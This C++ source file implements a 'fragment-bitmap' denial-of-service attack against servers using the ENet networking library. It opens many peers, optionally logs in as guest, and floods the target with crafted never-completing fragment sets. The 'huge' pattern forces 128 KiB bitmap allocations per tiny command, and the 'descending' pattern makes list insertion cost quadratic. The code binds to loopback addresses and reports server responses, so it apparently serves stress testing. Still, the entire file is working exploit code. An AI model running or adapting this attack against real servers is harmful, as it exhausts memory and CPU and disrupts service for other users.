// fragment-bitmap: reliable fragment sets that never complete, from peers
// that completed the ENet handshake (and, with --after-welcome, logged in).
// Each SEND_FRAGMENT opens a new set at its own start sequence number and
// carries its only fragment (number 0, 1 byte):
//   huge        fragmentCount 1,048,576 with a 1-byte total: libenet 1.3.17
//               allocates (and zeroes) a 128 KiB bitmap per set for a
//               25-byte command;
//   descending  tiny sets (2 fragments) sent last sequence number first:
//               each new set is inserted at the far end of ENet's incoming
//               list, which it walks from the back, so the cost grows with
//               the square of the count.
// Sets use channels 0 and 1 and stay inside ENet's receive window (7 windows
// of 4096 sequence numbers ahead per channel), which bounds a peer to
// 2 x 28,670 sets.
#include "attacks.h"
#include "guest_login.h"

namespace qbot::attack {
namespace {

constexpr std::uint32_t kSetsPerChannel = (wire::kFreeReliableWindows - 1) * wire::kReliableWindowSize - 2;
constexpr std::size_t kDatagramBytes = 1400;  // what a client's MTU allows
constexpr std::size_t kFragmentCommandBytes = 24 + 1;

struct Attacker {
  std::vector<RawPeer> peers;
  std::uint64_t welcomed = 0;
  std::uint64_t sets_sent = 0;
};

/// Connects (and logs in) one peer per connection.
core::Result<Attacker, std::string> connect_all(const Common& c, const FragmentOptions& o, LoopbackIp base) {
  Attacker a;
  std::mt19937 rng(static_cast<std::uint32_t>(c.seed));
  proto::Encoder encoder;
  for (std::uint32_t i = 0; i < o.connections; ++i) {
    auto ip = LoopbackIp::offset(base, 1 + i);
    if (!ip) return core::Err{ip.error()};
    auto socket = UdpSocket::bind(*ip);
    if (!socket) return core::Err{socket.error()};
    auto data = connect_data(c, *socket);
    if (!data) return core::Err{data.error()};
    RawPeer peer(std::move(*socket), c.target, static_cast<std::uint32_t>(rng()));
    if (!peer.connect(Millis(3000), *data)) return core::Err{"connection " + std::to_string(i) + ": no handshake"};
    if (o.after_welcome &&
        login_guest(peer, encoder, "frag" + std::to_string(i), Millis(3000)).outcome == LoginOutcome::Welcomed) {
      a.welcomed += 1;
    }
    a.peers.push_back(std::move(peer));
  }
  return a;
}

/// Sends one peer's `count` sets on `channel` in the pattern's order.
std::uint64_t send_sets(RawPeer& peer, std::uint8_t channel, std::uint32_t count, const FragmentOptions& o,
                        bool descending) {
  const std::uint16_t first = peer.reserve_sequences(channel, static_cast<std::uint16_t>(count));
  const std::uint8_t data[1] = {0};
  std::uint64_t sent = 0;
  auto d = peer.datagram();
  for (std::uint32_t k = 0; k < count; ++k) {
    const auto seq = static_cast<std::uint16_t>(first + (descending ? count - 1 - k : k));
    if (d.size() + kFragmentCommandBytes > kDatagramBytes) {
      peer.send(d);
      peer.poll(Millis(0));  // acknowledge what came, as a client would
      d = peer.datagram();
    }
    d.send_fragment(channel, seq, wire::FragmentFields{seq, o.fragment_count, 0, o.total_length, 0}, data);
    sent += 1;
  }
  if (d.commands() > 0) peer.send(d);
  return sent;
}

core::Result<bool, std::string> check(const FragmentOptions& o) {
  if (o.pattern != "huge" && o.pattern != "descending") {
    return core::Err{"--pattern must be huge or descending, got '" + o.pattern + "'"};
  }
  if (o.connections == 0 || o.connections > 256) return core::Err{std::string("--connections must be 1..256")};
  if (o.fragment_count == 0 || o.fragment_count > wire::kMaxFragmentCount) {
    return core::Err{std::string("--fragment-count must be 1..1048576")};
  }
  if (o.total_length == 0 || o.total_length > 0xFFFF) return core::Err{std::string("--total-length must be 1..65535")};
  if (o.sets > std::uint64_t{o.connections} * 2 * kSetsPerChannel) {
    return core::Err{"--sets: at most " + std::to_string(2 * kSetsPerChannel) + " per connection fit ENet's window"};
  }
  return true;
}

}  // namespace

Outcome fragment_bitmap(const Common& c, const FragmentOptions& options) {
  FragmentOptions o = options;
  const bool descending = o.pattern == "descending";
  if (o.sets == 0) o.sets = descending ? 56000 : 6000;
  if (o.fragment_count == 0) o.fragment_count = descending ? 2 : wire::kMaxFragmentCount;
  if (auto ok = check(o); !ok) return core::Err{ok.error()};
  auto base = LoopbackIp::parse(o.base);
  if (!base) return core::Err{"--base: " + base.error()};
  auto attacker = connect_all(c, o, *base);
  if (!attacker) return core::Err{attacker.error()};
  const auto start = Clock::now();
  for (std::uint32_t i = 0; i < o.connections; ++i) {
    const std::uint32_t mine = o.sets / o.connections + (i < o.sets % o.connections ? 1 : 0);
    attacker->sets_sent += send_sets(attacker->peers[i], 0, (mine + 1) / 2, o, descending);
    attacker->sets_sent += send_sets(attacker->peers[i], 1, mine / 2, o, descending);
  }
  const double send_s = seconds_since(start);
  const auto hold_end = deadline_after(c, o.hold_s);
  while (Clock::now() < hold_end) {
    for (auto& p : attacker->peers) p.poll(Millis(p.disconnected() ? 0 : 2));
  }
  Json j = report(c, "fragment-bitmap");
  j["pattern"] = o.pattern;
  j["after_welcome"] = o.after_welcome;
  j["connections"] = o.connections;
  j["welcomed"] = attacker->welcomed;
  j["sets_sent"] = attacker->sets_sent;
  j["fragment_count"] = o.fragment_count;
  j["claimed_bitmap_bytes"] = attacker->sets_sent * ((std::uint64_t{o.fragment_count} + 31) / 32 * 4);
  j["send_s"] = send_s;
  Traffic t;
  std::uint64_t acks = 0, disconnected = 0;
  Json reasons = Json::object();
  for (auto& p : attacker->peers) {
    t += p.traffic();
    acks += p.counts().acknowledgements;
    if (p.disconnected()) {
      disconnected += 1;
      reasons[std::to_string(p.disconnect_data())] = reasons.value(std::to_string(p.disconnect_data()), 0) + 1;
    }
  }
  j["acknowledged_by_server"] = acks;
  j["disconnected_by_server"] = disconnected;
  j["disconnect_reasons"] = std::move(reasons);
  add_traffic(j, t);
  return j;
}

}  // namespace qbot::attack
